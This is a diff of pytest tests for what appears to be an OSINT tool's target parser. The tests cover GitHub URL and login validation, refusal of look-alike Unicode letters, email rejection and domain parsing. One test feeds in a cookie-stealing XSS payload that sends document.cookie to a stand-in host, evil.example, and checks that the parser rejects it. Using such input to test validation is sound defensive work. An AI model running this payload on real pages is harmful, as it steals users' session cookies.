@@ -71,3 +71,84 @@ def test_many_targets_are_deduplicated_and_bad_ones_reported_each():
 
     assert parsed == [ParsedTarget("github", "nvie")]
     assert [text for text, _ in errors] == ["github:-x", "nonsense"]
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("https://github.com/orgs/acme", ParsedTarget("github-org", "acme")),
+        ("https://github.com/orgs/Acme/people", ParsedTarget("github-org", "acme")),
+        ("github.com/organizations/acme/settings", ParsedTarget("github-org", "acme")),
+        ("https://github.com/users/nvie/projects/1", ParsedTarget("github", "nvie")),
+        ("\ufeffgithub:nvie", ParsedTarget("github", "nvie")),
+    ],
+)
+def test_github_addresses_name_the_account_they_show(text, expected):
+    assert parse_target(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "https://github.com/settings/profile",
+        "https://github.com/sponsors/nvie",
+        "github.com/marketplace/actions/checkout",
+        "https://github.com/topics/osint",
+        "https://github.com/notifications",
+        "https://github.com/explore",
+    ],
+)
+def test_github_pages_of_its_own_are_not_taken_for_accounts(text):
+    with pytest.raises(TargetError, match=r"is a page of GitHub's own \(github.com/\w+\)"):
+        parse_target(text)
+
+
+@pytest.mark.parametrize(
+    ("text", "message"),
+    [
+        ("github:settings", r"GitHub keeps that name for its own pages \(github.com/settings\)"),
+        ("github-org:orgs", "GitHub keeps that name"),
+        ("github-repo:new/thing", "'new' is not a GitHub owner login"),
+    ],
+)
+def test_github_reserved_names_are_refused_as_logins(text, message):
+    with pytest.raises(TargetError, match=message):
+        parse_target(text)
+
+
+def test_an_unknown_kind_is_named_and_the_kinds_are_listed():
+    with pytest.raises(TargetError) as caught:
+        parse_target("twitter:foo")
+
+    message = str(caught.value)
+    assert "unknown kind 'twitter'" in message
+    assert "github:LOGIN" in message and "has no kind" not in message
+
+
+@pytest.mark.parametrize("text", ["github:\u212aelvin", "github-org:\u212acme", "GitHub:ſam"])
+def test_github_logins_with_look_alike_letters_are_refused_not_folded(text):
+    with pytest.raises(TargetError, match=r"characters outside ASCII \(U\+"):
+        parse_target(text)
+
+
+def test_a_repository_name_with_a_look_alike_letter_is_refused():
+    with pytest.raises(TargetError, match=r"outside ASCII \(U\+212A\)"):
+        parse_target("github-repo:nvie/\u212aelvin")
+
+
+def test_the_character_set_of_a_login_is_checked_before_its_length():
+    with pytest.raises(TargetError) as caught:
+        parse_target("github:<script>fetch('//evil.example/'+document.cookie)</script>")
+
+    assert "use letters, digits and hyphens" in str(caught.value)
+    assert "at most 39" not in str(caught.value)
+
+
+@pytest.mark.parametrize("text", ["mailto:a@b.c", "MAILTO:a@b.c/x", "alice@example.com"])
+def test_an_email_address_is_refused_as_such_and_not_taken_for_a_domain(text):
+    with pytest.raises(TargetError, match="is an e-mail address, which is not a target kind"):
+        parse_target(text)
+
+
+def test_a_host_with_a_port_is_still_a_domain_and_not_an_unknown_kind():
+    assert parse_target("example.com:8080") == ParsedTarget("domain", "example.com")
